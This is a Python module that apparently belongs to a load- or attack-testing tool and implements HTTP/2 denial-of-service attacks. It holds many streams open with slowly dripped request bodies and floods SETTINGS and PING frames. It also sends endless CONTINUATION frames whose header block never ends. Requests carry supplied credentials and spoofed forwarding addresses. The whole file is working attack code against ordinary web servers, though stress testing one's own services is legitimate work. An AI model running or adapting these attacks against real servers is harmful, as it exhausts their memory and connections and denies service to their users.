"""Attacks by HTTP/2: streams that are held, and frames that no client sends."""

from __future__ import annotations

import contextlib
import select
import time
from typing import TYPE_CHECKING

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from common import credentials
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame

if TYPE_CHECKING:
    from collections.abc import Iterator

    from common import Plan


class Session:
    """One connection and the streams that are open on it."""

    def __init__(self, plan: Plan, number: int, values: Iterator[str | None]) -> None:
        self.plan, self.options, self.values = plan, plan.options, values
        self.socket = plan.connect(number, "h2")
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, validate_outbound_headers=False, header_encoding=None)
        )
        if "window" in self.options:
            window = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
            self.h2.local_settings = h2.settings.Settings(initial_values={window: self.options["window"]})
        self.h2.initiate_connection()
        # What is still to be sent of the first part, by stream.
        self.open: dict[int, int] = {}
        self.flush()
        self.pump(0.2)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.socket.close()

    def flush(self) -> None:
        self.socket.sendall(self.h2.data_to_send())

    def request(self) -> None:
        """Open one more stream."""
        stream = self.h2.get_next_available_stream_id()
        length = self.options.get("length")
        headers = [
            (b":method", self.options.get("method", "GET").encode()),
            (b":scheme", b"https"),
            (b":authority", b"localhost"),
            (b":path", self.options.get("path", "/v2/").encode()),
            *((name.encode(), value.encode()) for name, value in self.options.get("headers", {}).items()),
        ]
        if length is not None:
            headers.append((b"content-length", str(length).encode()))
        if (value := next(self.values)) is not None:
            headers.append((b"authorization", value.encode()))
        if (client := self.plan.client()) is not None:
            headers.append((b"x-forwarded-for", client.encode()))
        self.h2.send_headers(stream, headers, end_stream=not self.options.get("body", length is not None))
        self.open[stream] = self.options.get("first", 0)
        self.plan.count("sent")

    def feed(self) -> None:
        """Send what the peer has room for of the first part of each body."""
        for stream in list(self.open):
            left = self.open[stream]
            while left > 0:
                try:
                    room = min(left, self.h2.local_flow_control_window(stream), self.h2.max_outbound_frame_size)
                    if room <= 0:
                        break
                    self.h2.send_data(stream, b"x" * room)
                except h2.exceptions.ProtocolError:
                    break
                left -= room
            if stream in self.open:
                self.open[stream] = left
        self.flush()

    def drip(self) -> None:
        """One byte more on each stream that has sent its first part."""
        for stream, left in self.open.items():
            with contextlib.suppress(h2.exceptions.ProtocolError):
                if left == 0 and self.h2.local_flow_control_window(stream) > 0:
                    self.h2.send_data(stream, b"x")
        self.flush()

    def pump(self, seconds: float = 0.0) -> None:
        """Take what the peer says."""
        while self.socket.pending() or select.select([self.socket], [], [], seconds)[0]:
            seconds = 0
            said = self.socket.recv(65536)
            if not said:
                raise ConnectionResetError
            for event in self.h2.receive_data(said):
                self.take(event)
            self.flush()

    def take(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.ResponseReceived):
            self.plan.count(dict(event.headers)[b":status"].decode())
        elif isinstance(event, h2.events.DataReceived) and "window" not in self.options:
            self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
            if isinstance(event, h2.events.StreamReset):
                self.plan.count("reset")
            self.open.pop(event.stream_id, None)
        elif isinstance(event, h2.events.ConnectionTerminated):
            raise ConnectionResetError


def streams(plan: Plan, number: int) -> None:
    """Keep so many streams open, each a request whose body stops after its first part."""
    values = credentials(plan.options.get("credential"))
    session = None
    while not plan.over():
        try:
            session = session or Session(plan, number, values)
            hold(plan, number, session)
        except (OSError, h2.exceptions.ProtocolError) as error:
            plan.count(type(error).__name__)
            if session:
                session.close()
            session = None
            time.sleep(0.1)
    if session:
        session.close()


def hold(plan: Plan, number: int, session: Session) -> None:
    wanted, every, due = plan.options["streams"], plan.options.get("every", 1), time.monotonic()
    while not plan.over():
        burst = number not in plan.engaged
        limit = min(wanted, session.h2.remote_settings.max_concurrent_streams)
        for _each in range(min(16, limit - len(session.open))):
            if not burst:
                plan.pace.wait()
            session.request()
        session.feed()
        session.pump(0.01)
        if len(session.open) >= limit or not burst:
            plan.engaged.add(number)
        if time.monotonic() > due + every:
            due = time.monotonic()
            session.drip()


def frames(plan: Plan, number: int) -> None:
    """Frames that cost the peer memory or time, and no request ever ends."""
    make = {"settings": settings, "ping": ping, "continuation": continuation}[plan.options["frame"]]
    while not plan.over():
        session = None
        try:
            session = Session(plan, number, credentials(None))
            stream = 1
            while not plan.over():
                plan.pace.wait()
                session.socket.sendall(make(stream))
                plan.count("sent")
                plan.engaged.add(number)
                stream += 2
                session.pump()
        except (OSError, h2.exceptions.ProtocolError) as error:
            plan.count(type(error).__name__)
            time.sleep(0.05)
        if session:
            session.close()


def settings(_stream: int) -> bytes:
    return SettingsFrame(0, settings={h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096}).serialize() * 20


def ping(_stream: int) -> bytes:
    return PingFrame(0, b"12345678").serialize() * 20


def continuation(stream: int) -> bytes:
    """A block of headers that goes on and on: a literal header of 1 KiB again and again, without its end."""
    literal = b"\x00\x02xy\x7f" + b"\x81\x07" + b"x" * 1024
    block = HeadersFrame(stream, b"\x82\x87\x84" + literal)
    rest = ContinuationFrame(stream, literal * 8)
    return block.serialize() + rest.serialize() * 3
